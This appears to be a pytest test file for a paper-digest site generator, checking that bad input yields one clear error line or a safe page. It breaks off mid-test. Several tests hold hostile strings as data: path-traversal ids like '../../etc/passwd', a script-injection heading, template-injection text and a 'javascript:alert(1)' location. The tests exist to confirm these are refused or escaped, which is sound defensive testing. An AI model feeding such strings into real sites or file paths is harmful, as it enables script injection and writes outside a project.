"""Bad input, and what it gets. Each test writes the input a user might feed us and checks
what they get back: a page, or one clear line naming the file and line, and never a
broken site, a script in a page, a file outside the project or a lost paper.

tests/bad-input.md lists every input tried here and what it gets.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import re
import signal
import subprocess
import sys
import time
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from generator import writer
from generator.bounds import MAX_BODY
from generator.cli import main
from generator.config import Config, load_config
from generator.engine.mkdocs import build as mkdocs_build
from generator.errors import DigestError
from generator.features import parts
from generator.model import Output, Record, paper_from_record
from generator.pages.page import dump_page, parse_page
from generator.pages.readers import read_file
from generator.pipeline import generate
from generator.slugs import MAX_SLUG
from generator.text import clean_abstract
from generator.writer import Writer
from tests.conftest import REPO, SEED, MakeProject, copy_project, tree
from tests.hostile import PAYLOADS, hostile_project

SAMPLE = REPO / "tests" / "fixtures" / "corpus-sample.jsonl"
SLUG_FILE = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*\.md$")


def cli(args: list[str]) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, args, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def pages_by_id(config: Config) -> dict[str, tuple[dict[str, Any], str, str]]:
    """{id: (front matter, body, file name)} of every paper page."""
    out = {}
    for path in sorted(config.papers_dir.glob("*.md")):
        meta, body, _ = parse_page(path.read_text(encoding="utf-8"), path.name)
        out[str(meta["id"])] = (meta, body, path.name)
    return out


def jsonl(records: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def sample_records(suffix: str = "") -> list[dict[str, Any]]:
    """The 42 sample papers, each with an id, the abstract ending in `suffix`."""
    records = [json.loads(line) for line in SAMPLE.read_text(encoding="utf-8").splitlines()]
    return [{**r, "id": f"s{i}", "abstract": r["abstract"] + suffix} for i, r in enumerate(records)]


# --- Files that cannot be read -------------------------------------------------------------

UNREADABLE: list[tuple[str, str | bytes, str]] = [
    ("empty.txt", "", "inputs/empty.txt: error: is empty"),
    ("empty.md", "\n\n \n", "inputs/empty.md: error: is empty"),
    ("empty.jsonl", "", "inputs/empty.jsonl: error: is empty"),
    ("blank.jsonl", "\n  \n", "inputs/blank.jsonl: error: is empty"),
    ("empty.json", "", "inputs/empty.json: error: is empty"),
    ("nothing.json", "[]", "inputs/nothing.json:1: error: holds no papers"),
    ("empty.csv", "", "inputs/empty.csv: error: is empty"),
    ("header.csv", "title,abstract\n", "inputs/header.csv:1: error: holds only a header row"),
    ("empty.txt.gz", gzip.compress(b""), "inputs/empty.txt.gz: error: is empty"),
    ("zero.jsonl.gz", b"", "inputs/zero.jsonl.gz: error: is empty"),
    ("heading.txt", "ICLR 2026 论文列表\n", "inputs/heading.txt:1: error: holds only a heading"),
    ("heading.md", "# My digest\n\n\n", "inputs/heading.md:1: error: holds only a heading"),
    (
        "latin1.txt",
        "Title\n\nCafé au lait.\n".encode("latin-1"),
        "inputs/latin1.txt:3: error: is not valid UTF-8 (byte 0xe9 at column 4)",
    ),
    (
        "latin1.jsonl",
        '{"abstract": "ok"}\n{"abstract": "na\xefve"}\n'.encode("latin-1"),
        "inputs/latin1.jsonl:2: error: is not valid UTF-8",
    ),
    (
        "cut.txt",
        "Title\n\nAn abstract 摘".encode()[:-1],
        "inputs/cut.txt: error: ends inside a UTF-8 character",
    ),
    ("utf16.txt", "Title\n\nAn abstract.\n".encode("utf-16"), "inputs/utf16.txt: error: is UTF-16"),
    (
        "utf16be.jsonl",
        '{"abstract": "An abstract."}\n'.encode("utf-16-be"),
        "inputs/utf16be.jsonl: error: is UTF-16",
    ),
    (
        "image.txt",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00",
        "inputs/image.txt: error: holds NUL bytes: this looks like a binary file",
    ),
    ("noise.txt", bytes(range(128, 256)), "inputs/noise.txt:1: error: is not valid UTF-8"),
    ("fake.jsonl.gz", b'{"abstract": "x"}\n', "inputs/fake.jsonl.gz: error: cannot be read"),
    (
        "cut.jsonl.gz",
        gzip.compress(b'{"abstract": "x"}\n' * 50)[:30],
        "inputs/cut.jsonl.gz: error: cannot be read",
    ),
    (
        "paper.pdf",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
        "inputs/paper.pdf: error: unknown file type .pdf",
    ),
    ("notes.docx", b"PK\x03\x04", "inputs/notes.docx: error: unknown file type .docx"),
    ("abstracts", "An abstract.\n", "inputs/abstracts: error: unknown file type (none)"),
    (
        "list.jsonl",
        "[1, 2]\n",
        "inputs/list.jsonl:1: error: record 1 is a list, expected an object",
    ),
    ("bad.jsonl", '{"abstract": "ok"}\n{oops\n', "inputs/bad.jsonl:2: error: invalid JSON"),
    ("cut.json", '[{"abstract": "a"}, ', "inputs/cut.json:1: error: invalid JSON"),
    (
        "titles.jsonl",
        '{"abstract": "A.", "title": ["a", "b"]}\n',
        "inputs/titles.jsonl:1: error: 'title' must be text, not a list",
    ),
    (
        "surrogate.jsonl",
        '{"abstract": "ok"}\n{"abstract": "A.", "title": "bad \\ud800 escape"}\n',
        "inputs/surrogate.jsonl:2: error: 'title' holds a lone surrogate (\\ud800)",
    ),
    (
        "year.csv",
        "abstract,year\nA paper.,2026.5\n",
        "inputs/year.csv:2: error: year '2026.5' is not a whole number",
    ),
    (
        "cells.csv",
        "title,abstract\nA,one,extra\n",
        "inputs/cells.csv:2: error: row 1 has more cells than the header",
    ),
    (
        "quote.csv",
        'title,abstract\nA,"never closed\nB,two\n',
        "inputs/quote.csv:2: error: row 1 opens a quoted cell that is never closed",
    ),
    (
        "noabstract.csv",
        "title,summary\nA,one\n",
        "inputs/noabstract.csv:1: error: has no 'abstract'",
    ),
    # Unbounded input (issue 11): each refused at once, naming the line.
    (
        "deep.json",
        '[{"abstract": "a"},\n {"abstract": "b", "x": ' + "[" * 100_000 + "]" * 100_000 + "}]",
        "inputs/deep.json:2: error: JSON nested more than 20 levels deep",
    ),
    (
        "deep.jsonl",
        '{"abstract": "a"}\n{"abstract": "b", "x": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
        "inputs/deep.jsonl:2: error: JSON nested more than 20 levels deep",
    ),
    (
        "nested.jsonl",
        '{"abstract": "a", "x": ' + "[" * 25 + "]" * 25 + "}\n",
        "inputs/nested.jsonl:1: error: record 1 is nested more than 20 levels deep",
    ),
    (
        "year.jsonl",
        '{"abstract": "a"}\n{"abstract": "b", "year": ' + "2" * 5000 + "}\n",
        "inputs/year.jsonl:2: error: a number has more than 30 digits (222222222222...)",
    ),
    (
        "longyear.csv",
        "abstract,year\nA paper.," + "2" * 5000 + "\n",
        "inputs/longyear.csv:2: error: year 222222222222... (5,000 characters) is not a year",
    ),
    (
        "nul.jsonl",
        '{"id": "a\\u0000b", "abstract": "One."}\n',
        "inputs/nul.jsonl:1: error: 'id' holds a control character (\\x00)",
    ),
    (
        "longline.txt",
        "Title\n\n" + "word " * 3_400_000 + "\n",
        "inputs/longline.txt:3: error: line 3 is longer than 16 MB",
    ),
    (
        "long.txt",
        "Title\n\nFirst.\n\n" + "a line of an abstract that never ends\n" * 1_400,
        "inputs/long.txt:5: error: the abstract has 50,0",
    ),
    (
        "long.jsonl",
        jsonl([{"abstract": "x" * 50_001}]),
        "inputs/long.jsonl:1: error: record 1: the abstract has 50,001 characters",
    ),
    (
        "fields.jsonl",
        jsonl([{"abstract": "One.", "title": "t" * 300_000}]),
        "inputs/fields.jsonl:1: error: the fields besides the abstract hold 300,0",
    ),
]


@pytest.mark.parametrize(
    ("name", "content", "expected"), UNREADABLE, ids=[case[0] for case in UNREADABLE]
)
def test_a_file_that_cannot_be_read_stops_the_run_with_file_and_line(
    make_project: MakeProject, name: str, content: str | bytes, expected: str
) -> None:
    config = make_project({name: content})
    code, out, err = cli(["generate", "--root", str(config.root)])
    assert code == 1 and out == ""
    assert err.startswith(expected), err
    assert len(err.splitlines()) == 1
    assert (
        not config.papers_dir.exists() and not config.state_dir.joinpath("manifest.json").exists()
    )


# --- Encodings and line ends ---------------------------------------------------------------

FORMATS = {
    "a.txt": "My digest\n\nFirst abstract, on graphs,\nwrapped.\n\nSecond abstract on images.\n",
    "a.jsonl": jsonl(
        [
            {"id": "1", "title": "One", "abstract": "First abstract on graphs."},
            {"id": "2", "title": "Two", "abstract": "Second abstract on images."},
        ]
    ),
    "a.json": json.dumps(
        [{"id": "1", "title": "One", "abstract": "First on graphs."}], ensure_ascii=False, indent=1
    ),
    "a.csv": 'id,title,abstract\n1,One,"First, on graphs."\n2,Two,Second on images.\n',
}


@pytest.mark.generate
@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize("variant", ["bom+crlf", "cr", "bom+gzip"])
def test_bom_and_any_line_ends_give_the_same_pages(
    make_project: MakeProject, tmp_path: Path, name: str, variant: str
) -> None:
    text = FORMATS[name]
    plain = make_project({name: text}, root=tmp_path / "plain")
    generate(plain)
    if variant == "bom+crlf":
        other_name, data = name, b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode()
    elif variant == "cr":
        other_name, data = name, text.replace("\n", "\r").encode()
    else:
        other_name, data = name + ".gz", gzip.compress(b"\xef\xbb\xbf" + text.encode())
    other = make_project({other_name: data}, root=tmp_path / "other")
    generate(other)
    assert tree(other.root, "site_src") == tree(plain.root, "site_src")
    assert len(list(other.papers_dir.glob("*.md"))) == (1 if name == "a.json" else 2)


# --- Size: the longest abstract a page may hold, 100,000 abstracts ---------------------------


def _longest_abstract(seed: int) -> str:
    """An abstract of nearly MAX_BODY characters (eleven times the longest real one)."""
    words = [w for w in SEED.read_text(encoding="utf-8").split() if w.isalpha()]
    rng = random.Random(seed)
    text = f"We propose Mega{seed}, a method for long inputs. "
    while len(text) < MAX_BODY - 600:
        text += " ".join(rng.choice(words) for _ in range(40)) + ". "
    return text + "The very last sentence."


@pytest.mark.slow
def test_the_longest_abstract_a_page_may_hold_gets_a_whole_page(make_project: MakeProject) -> None:
    first, second, third = (_longest_abstract(n) for n in range(3))
    word = "w" * (MAX_BODY - 1)
    cells = io.StringIO()
    csv.writer(cells).writerows([["id", "abstract"], ["csv", third]])
    config = make_project(
        {
            "a.txt": f"Digest\n\n{first}\n\n{word}\n",
            "b.jsonl": jsonl([{"id": "json", "abstract": second}]),
            "c.csv": cells.getvalue(),
        }
    )
    report = generate(config)
    assert report.papers == 4
    bodies = {body: meta for meta, body, _ in pages_by_id(config).values()}
    for text in (first, second, third, word):
        meta = bodies[clean_abstract(text)]  # the whole abstract is the page's body
        assert 0 < len(meta["title"]) <= 100 and len(meta.get("summary", "")) <= 301
    mkdocs_build(config, strict=True)
    name = pages_by_id(config)["json"][2].removesuffix(".md")
    page = config.site_dir / "papers" / name / "index.html"
    assert page.read_text(encoding="utf-8").count("The very last sentence.") == 1


def _write_many(path: Path, count: int) -> None:
    line = "Abstract {n} studies learning with a method that gains {m} percent on benchmarks."
    if path.suffix == ".csv":
        rows = ["id,abstract"] + [f"p{n},{line.format(n=n, m=n % 97)}" for n in range(count)]
        path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    elif path.name.endswith(".jsonl"):
        path.write_text(
            jsonl([{"abstract": line.format(n=n, m=n % 97)} for n in range(count)]), "utf-8"
        )
    else:
        body = "Many abstracts\n\n" + "\n\n".join(line.format(n=n, m=n % 97) for n in range(count))
        data = body.encode()
        path.write_bytes(gzip.compress(data, 1) if path.suffix == ".gz" else data)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["many.txt", "many.jsonl", "many.csv", "many.txt.gz"])
def test_100000_abstracts_stream_in_bounded_memory(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    _write_many(path, 100_000)
    size = len(gzip.decompress(path.read_bytes())) if name.endswith(".gz") else path.stat().st_size
    assert size > 8_000_000
    tracemalloc.start()
    try:
        count = 0
        for record in read_file(path):  # each record is dropped once counted
            count += 1
            assert record.fields["abstract"]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == 100_000
    # Reading keeps one record (a line, a paragraph) at a time: memory does not grow with
    # the file. 256 KiB is 1/30 of the file; holding the file would need all 8+ MB.
    assert peak < 256 * 1024, f"peak {peak} bytes while reading {size} bytes"


@pytest.mark.slow
def test_a_200_megabyte_line_is_refused_without_reading_it(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("Title\n\n")
        for _ in range(200):
            handle.write("word " * 200_000)  # 1 MB, no newline
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(DigestError, match=r"huge.txt:3: error: line 3 is longer than 16 MB"):
            list(read_file(path, "huge.txt"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # It used to take 195 s and 4.8 GB, then write a 200 MB page.
    assert time.perf_counter() - started < 10
    assert peak < 100 << 20, f"peak {peak} bytes"


@pytest.mark.slow
def test_generate_takes_100000_abstracts_in_one_file(make_project: MakeProject) -> None:
    distinct = [f"Paper {n} proposes a method for graphs and images." for n in range(200)]
    records = [{"abstract": distinct[n % 200]} for n in range(100_000)]
    config = make_project({"many.jsonl": jsonl(records)})
    report = generate(config)
    assert report.papers == 200 and len(report.new) == 200
    assert len(report.duplicates) == 99_800  # each merged once and reported
    assert (
        report.duplicates[0]
        == "inputs/many.jsonl:201 repeats the paper at inputs/many.jsonl:1 (merged)"
    )
    assert len(list(config.papers_dir.glob("*.md"))) == 200


# --- Duplicates ----------------------------------------------------------------------------


@pytest.mark.generate
def test_duplicate_abstracts_are_merged_once_and_reported(make_project: MakeProject) -> None:
    config = make_project(
        {
            "a.txt": (
                "Digest\n\nOne abstract about\ngraph networks.\n\n"
                "ONE abstract about graph networks.\n"
            ),
            "b.jsonl": jsonl(
                [
                    {"abstract": "one  abstract about graph networks.", "title": "Graphs"},
                    {"id": "x", "abstract": "Another about images.", "venue": "ICLR"},
                    {
                        "id": "x",
                        "abstract": "Another about images.",
                        "title": "Images",
                        "venue": "X",
                    },
                    {"id": "y", "abstract": "Another about images.", "title": "Same text"},
                ]
            ),
        }
    )
    code, _, err = cli(["generate", "--root", str(config.root)])
    assert code == 0
    assert "3 papers from 2 input file(s) → 3 pages (3 new" in err
    pages = pages_by_id(config)
    assert len(pages) == 3
    graphs = next(meta for meta, body, _ in pages.values() if body.startswith("One abstract"))
    assert graphs["title"] == "Graphs"  # the later copy filled what the first lacked
    assert pages["x"][0]["venue"] == "ICLR" and pages["x"][0]["title"] == "Images"
    lines = [line for line in err.splitlines() if line.startswith("duplicate:")]
    assert lines == [
        "duplicate: inputs/a.txt:6 repeats the paper at inputs/a.txt:3 (merged)",
        "duplicate: inputs/b.jsonl:1 repeats the paper at inputs/a.txt:3 (merged)",
        "duplicate: inputs/b.jsonl:3 repeats the paper at inputs/b.jsonl:2 (merged)",
    ]
    assert (
        "inputs/b.jsonl:4: warning: same abstract as the paper at inputs/b.jsonl:2, but another "
        "id ('y', not 'x'): both are kept" in err
    )


# --- Script, markup and template syntax ----------------------------------------------------


class _Page(HTMLParser):
    """What a built page holds that could run: handlers, script links, scripts; and its h1."""

    def __init__(self) -> None:
        super().__init__()
        self.runnable: list[str] = []
        self.h1 = ""
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.runnable.append(f"<{tag} {name}={value}>")
            if (
                name in ("href", "src")
                and value
                and re.match(r"\s*(javascript|data|vbscript)", value, re.I)
            ):
                self.runnable.append(f"<{tag} {name}={value}>")
        if tag in ("iframe", "object", "embed", "img"):
            self.runnable.append(f"<{tag}>")
        if tag == "a" and ("class", "headerlink") in attrs:
            tag = "headerlink"
        self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self._in and self._in.pop() not in (tag, "headerlink"):
            pass

    def handle_data(self, data: str) -> None:
        if "script" in self._in and "alert" in data:
            self.runnable.append(f"<script>{data}")
        if "h1" in self._in and "headerlink" not in self._in:
            self.h1 += data


def _parse(path: Path) -> _Page:
    page = _Page()
    page.feed(path.read_text(encoding="utf-8"))
    page.h1 = page.h1.strip()
    return page


@pytest.fixture(scope="module")
def hostile_built(tmp_path_factory: pytest.TempPathFactory) -> Config:
    root = tmp_path_factory.mktemp("hostile-build")
    copy_project(root)
    inputs, files = hostile_project()
    (root / "inputs").mkdir()
    for name, text in {**{f"inputs/{k}": v for k, v in inputs.items()}, **files}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    config = load_config(root)
    generate(config)
    mkdocs_build(config, strict=True)
    return config


@pytest.mark.slow
def test_script_and_markup_in_any_field_never_reach_a_page_as_markup(
    hostile_built: Config,
) -> None:
    pages = sorted(hostile_built.site_dir.rglob("*.html"))
    assert len(pages) > 20
    found = {
        p.name if p.parent == hostile_built.site_dir else p.parent.name: _parse(p).runnable
        for p in pages
    }
    assert {name: bad for name, bad in found.items() if bad} == {}


@pytest.mark.slow
@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_script_markup_and_template_syntax_are_shown_as_typed(
    hostile_built: Config, number: int
) -> None:
    (_, _, name) = pages_by_id(hostile_built)[f"hostile-{number}"]
    html = hostile_built.site_dir / "papers" / name.removesuffix(".md") / "index.html"
    assert _parse(html).h1 == f"T{number} {PAYLOADS[number]}"
    slug = name.removesuffix(".md")
    bucket = hostile_built.parts_dir / parts.bucket_file(parts.bucket(slug))
    # The parts are values the page hook hands to the templates, never template source.
    record = json.loads(bucket.read_text(encoding="utf-8"))[slug]
    assert "<script" not in (record["head"] + record["foot"]).lower()


@pytest.mark.slow
def test_template_syntax_in_a_heading_or_hand_written_page_is_shown_literally(
    hostile_built: Config,
) -> None:
    home = _parse(hostile_built.site_dir / "index.html")
    assert home.h1 == "<script>alert('heading')</script> {{ 7*7 }}"
    hand = (hostile_built.site_dir / "papers" / "hand-made" / "index.html").read_text("utf-8")
    assert (
        "{{ 7*7 }} {% raw %}" in hand
        and "49" not in _parse(hostile_built.site_dir / "papers" / "hand-made" / "index.html").h1
    )


# --- YAML-significant text round-trips through front matter --------------------------------

YAML_TRICKY = [
    "Title: with colon",
    "#hash",
    "- dash",
    "'single' and \"double\" quotes",
    "---",
    "...",
    "null",
    "~",
    "yes",
    "no",
    "on",
    "true",
    "2026",
    "1e3",
    "0x1F",
    ".inf",
    "-1",
    "@at",
    "`tick`",
    "%percent",
    "&anchor",
    "*alias",
    "!tag",
    "|",
    ">",
    "? key",
    "key: value # not a comment",
    "[a, b]",
    "{a: b}",
    "trailing colon:",
    "数据集" * 1500,
    "مرحبا بالعالم، عنوان من اليمين إلى اليسار",
    "mixed עברית and English ‮override",
    "emoji 👩‍🔬🚀🇨🇳",
    "e\u0301 combining and a\u00a0non-breaking space",
    "zero\u200bwidth and \ufeffBOM inside",
    "tab\there and line\u2028separator",
]


@pytest.mark.slow
def test_yaml_significant_titles_and_tags_round_trip_exactly(make_project: MakeProject) -> None:
    records = [
        {
            "id": f"y{n}",
            "title": title,
            "abstract": f"Abstract {n} about graph learning.",
            "keywords": [title, "plain"],
            "authors": [title],
            "extra_field": title,
        }
        for n, title in enumerate(YAML_TRICKY)
    ]
    config = make_project({"tricky.jsonl": jsonl(records)})
    generate(config)
    pages = pages_by_id(config)
    for n, record in enumerate(records):
        paper = paper_from_record(Record("x", n + 1, record))
        meta, _body, name = pages[f"y{n}"]
        assert meta["title"] == paper.title, record["title"]
        assert meta["keywords"] == paper.keywords and meta["authors"] == paper.authors
        assert meta["extra"] == {"extra_field": record["extra_field"]}
        assert SLUG_FILE.match(name) and len(name) <= MAX_SLUG + 3 + len(".md")
    again = generate(config)
    assert again.written.written == [] and again.updated == []  # read back as written
    mkdocs_build(config, strict=True)  # MkDocs reads the same front matter
    for meta, _, name in pages.values():
        built = _parse(config.site_dir / "papers" / name.removesuffix(".md") / "index.html")
        assert built.h1 == meta["title"]


# --- Paths: ids and titles never leave site_src/ -------------------------------------------

PATHS = [
    "../../etc/passwd",
    "../../../../../../tmp/escape",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "..",
    ".",
    ".hidden",
    "CON",
    "con.md",
    "NUL",
    "COM1",
    "LPT9",
    "index",
    "tags",
    "C:\\Windows\\System32",
    "%2e%2e%2fetc",
    "~root",
    "\u202egnp.exe",
    "",
]


@pytest.mark.generate
def test_ids_and_titles_like_paths_never_escape_site_src(tmp_path: Path) -> None:
    outer = tmp_path / "outer"
    (outer / "etc").mkdir(parents=True)
    (outer / "etc" / "passwd").write_text("keep me\n")
    root = outer / "project"
    copy_project(root)
    (root / "inputs").mkdir()
    records = [
        {"id": text or f"empty-{n}", "title": text, "abstract": f"Paper {n} on graph learning."}
        for n, text in enumerate(PATHS)
    ] + [
        {"id": f"t{n}", "title": text, "abstract": f"Other {n} on images."}
        for n, text in enumerate(PATHS)
    ]
    (root / "inputs" / "paths.jsonl").write_text(jsonl(records), encoding="utf-8")
    config = load_config(root)
    before = tree(outer)
    generate(config)
    after = tree(outer)
    new = sorted(set(after) - set(before))
    assert all(
        path.startswith(("project/site_src/", "project/overrides/generated/")) for path in new
    ), new
    assert {k: v for k, v in before.items() if k in after and after[k] != v} == {}
    names = [p.name for p in config.papers_dir.iterdir()]
    assert len(names) == len(records) == len(set(names))
    assert all(SLUG_FILE.match(name) for name in names), names
    reserved = {"con", "nul", "com1", "lpt9", "index", "tags"}
    assert not reserved & {name.removesuffix(".md") for name in names}


def test_the_writer_refuses_paths_outside_the_project(tmp_path: Path) -> None:
    root = tmp_path / "project"
    (root / ".digest").mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    writer = Writer(root, root / ".digest")
    for bad in ("../victim.txt", str(victim), "site_src/../../victim.txt"):
        with pytest.raises(ValueError, match="outside the project"):
            writer.write([Output(bad, "overwritten")], [])
    # A manifest edited by hand cannot make the writer delete a file outside the project.
    (root / ".digest" / "manifest.json").write_text(json.dumps(["../victim.txt", str(victim)]))
    writer.write([], [Output("site_src/index.md", "home\n")])
    assert victim.read_text() == "keep me\n"


def test_written_files_get_the_mode_of_any_new_file_and_keep_their_own(tmp_path: Path) -> None:
    root = tmp_path / "project"
    writer = Writer(root, root / ".digest")
    previous = os.umask(0o022)
    try:
        writer.write([Output("site_src/papers/a.md", "one\n")], [])
        page = root / "site_src" / "papers" / "a.md"
        assert page.stat().st_mode & 0o777 == 0o644  # not mkstemp's 0600
        page.chmod(0o664)
        writer.write([Output("site_src/papers/a.md", "two\n")], [])
        assert page.stat().st_mode & 0o777 == 0o664 and page.read_text() == "two\n"
    finally:
        os.umask(previous)


# --- Hand-edited pages and taxonomy that cannot be read ------------------------------------

BROKEN_PAGES: list[tuple[str, str | bytes, str]] = [
    ("unclosed bracket", "---\nid: {id}\ntitle: [oops\n---\nbody\n", ":3: error: invalid YAML"),
    ("unclosed front matter", "---\nid: {id}\ntitle: t\n", ":1: error: front matter is not closed"),
    ("no front matter", "Just the abstract.\n", ":1: error: page must start with '---'"),
    ("empty file", "", ":1: error: page must start with '---'"),
    ("not a mapping", "---\n- {id}\n- b\n---\nbody\n", ":2: error: front matter must be a mapping"),
    ("tab indent", "---\nid: {id}\ntags:\n\t- nlp\n---\nbody\n", ":4: error: invalid YAML"),
    (
        "field twice",
        "---\nid: {id}\ntitle: a\ntags: [nlp]\ntitle: b\n---\nbody\n",
        ":5: error: invalid YAML front matter: field 'title' is given twice (first on line 3)",
    ),
    ("title yes", "---\nid: {id}\ntitle: yes\n---\nbody\n", ":3: error: title must be text"),
    ("title number", "---\nid: {id}\ntitle: 2026\n---\nbody\n", ":3: error: title must be text"),
    ("tags text", "---\nid: {id}\ntags: nlp\n---\nbody\n", ":3: error: tags must be a list"),
    (
        "tag path",
        "---\nid: {id}\ntags: [../../etc/passwd]\n---\nbody\n",
        ":3: error: tag '../../etc/passwd' is not a tag slug",
    ),
    (
        "tag label",
        "---\nid: {id}\ntags: [Graph Learning]\n---\nb\n",
        ":3: error: tag 'Graph Learning'",
    ),
    (
        "template",
        "---\nid: {id}\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\nbody\n",
        ":3: error: 'template' cannot be set on a paper page",
    ),
    ("latin-1", "---\nid: {id}\ntitle: Caf\xe9\n---\nbody\n", ":3: error: is not valid UTF-8"),
    ("NUL byte", "---\nid: {id}\ntitle: a\x00b\n---\nbody\n", ":3: error: invalid YAML"),
    ("no id", "---\ntitle: t\ntags: [nlp]\n---\nbody\n", ":2: error: front matter has no 'id'"),
]


@pytest.fixture
def generated_seed(seed_project: Config) -> Config:
    generate(seed_project)
    return seed_project


@pytest.mark.generate
@pytest.mark.parametrize(
    ("case", "content", "expected"), BROKEN_PAGES, ids=[c[0] for c in BROKEN_PAGES]
)
def test_a_broken_hand_edited_page_stops_the_run_naming_file_and_line(
    generated_seed: Config, case: str, content: str, expected: str
) -> None:
    page = sorted(generated_seed.papers_dir.glob("*.md"))[3]
    paper_id = str(parse_page(page.read_text(encoding="utf-8"), page.name)[0]["id"])
    text = content.replace("{id}", paper_id)
    page.write_bytes(text.encode("latin-1") if case == "latin-1" else text.encode())
    before = tree(generated_seed.root)
    with pytest.raises(DigestError) as caught:
        generate(generated_seed)
    assert str(caught.value).startswith(f"site_src/papers/{page.name}{expected}"), caught.value
    assert tree(generated_seed.root) == before  # nothing written, the page not dropped


@pytest.mark.generate
def test_two_pages_with_one_id_stop_the_run(generated_seed: Config) -> None:
    first = sorted(generated_seed.papers_dir.glob("*.md"))[0]
    (generated_seed.papers_dir / "copy.md").write_text(first.read_text(encoding="utf-8"))
    with pytest.raises(
        DigestError, match=r"site_src/papers/(copy|.*)\.md:2: error: id '.*' is also used by"
    ):
        generate(generated_seed)


@pytest.mark.slow
def test_the_build_refuses_to_publish_a_broken_page(seed_project: Config) -> None:
    root = str(seed_project.root)
    assert cli(["build", "--root", root])[0] == 0
    site = tree(seed_project.site_dir)
    page = sorted(seed_project.papers_dir.glob("*.md"))[0]
    page.write_text(page.read_text(encoding="utf-8").replace("title:", "title: [", 1))
    code, _, err = cli(["build", "--root", root])
    assert code == 1 and err.startswith(f"site_src/papers/{page.name}:3: error: invalid YAML")
    assert tree(seed_project.site_dir) == site  # the published site is the last good one


BROKEN_TAXONOMIES: list[tuple[str, str | bytes, str]] = [
    ("bad yaml", "tags:\n  - slug: a\n    label: [oops\n", "taxonomy.yml:3: error: invalid YAML"),
    ("bad slug", "tags:\n  - slug: Bad Slug\n", "taxonomy.yml:2: error: tag slug 'Bad Slug'"),
    (
        "twice",
        "tags:\n  - slug: a\n  - slug: a\n",
        "taxonomy.yml:3: error: tag 'a' is defined twice (first at line 2)",
    ),
    ("bad regex", "tags:\n  - slug: a\n    match: ['/[/']\n", "taxonomy.yml:2: error: bad /regex/"),
    ("label list", "tags:\n  - slug: a\n    label: [x]\n", "taxonomy.yml:2: error: label must be"),
    ("no tags", "tag: []\n", "taxonomy.yml:1: error: expected a top-level 'tags:' list"),
    ("empty", "", "taxonomy.yml:1: error: expected a top-level 'tags:' list"),
    (
        "latin-1",
        "tags:\n  - slug: caf\xe9\n".encode("latin-1"),
        "taxonomy.yml: error: is not valid UTF-8",
    ),
]


@pytest.mark.generate
@pytest.mark.parametrize(
    ("case", "content", "expected"), BROKEN_TAXONOMIES, ids=[c[0] for c in BROKEN_TAXONOMIES]
)
def test_a_broken_taxonomy_stops_the_run_naming_file_and_line(
    generated_seed: Config, case: str, content: str | bytes, expected: str
) -> None:
    if isinstance(content, bytes):
        generated_seed.taxonomy.write_bytes(content)
    else:
        generated_seed.taxonomy.write_text(content, encoding="utf-8")
    before = tree(generated_seed.root)
    code, _, err = cli(["generate", "--root", str(generated_seed.root)])
    assert code == 1 and err.startswith(expected), err
    assert tree(generated_seed.root) == before


# --- Odd characters and field types --------------------------------------------------------


@pytest.mark.generate
def test_control_characters_are_dropped_and_list_fields_accept_names(
    make_project: MakeProject,
) -> None:
    record = {
        "id": "c1",
        "title": "Bell\u0007 and NUL\u0000 in a title",
        "abstract": "An abstract with an escape \u001b[31m and a form feed \u000c here.",
        "authors": [{"name": "Ada Lovelace", "affiliation": "London"}, "Alan Turing"],
    }
    config = make_project({"c.jsonl": jsonl([record])})
    generate(config)
    page = next(config.papers_dir.glob("*.md"))
    data = page.read_bytes()
    assert not re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", data)
    meta, body, _ = parse_page(data.decode(), page.name)
    assert meta["title"] == "Bell and NUL in a title"
    assert meta["authors"] == ["Ada Lovelace", "Alan Turing"]
    assert body == "An abstract with an escape [31m and a form feed  here."


# --- A run killed mid-write, and two runs at once ------------------------------------------


def _project_with(root: Path, records: list[dict[str, Any]]) -> Config:
    copy_project(root)
    (root / "inputs").mkdir(exist_ok=True)
    (root / "inputs" / "papers.jsonl").write_text(jsonl(records), encoding="utf-8")
    return load_config(root)


def _files(config: Config) -> dict[str, bytes]:
    """What generation writes: pages, derived pages and fragments (not the project's own)."""
    return {
        path: data
        for path, data in tree(config.root).items()
        if path.startswith(("site_src/", "overrides/generated/"))
        and not path.startswith("site_src/assets/")
    }


def _temps(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob(".*.tmp"))


@pytest.mark.generate
def test_a_failed_write_leaves_each_page_old_or_new_and_no_temp_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old, new = sample_records(), sample_records(" Revised.")
    reference = _project_with(tmp_path / "reference", old)
    generate(reference)
    old_files = _files(reference)
    (reference.root / "inputs" / "papers.jsonl").write_text(jsonl(new), encoding="utf-8")
    generate(reference)
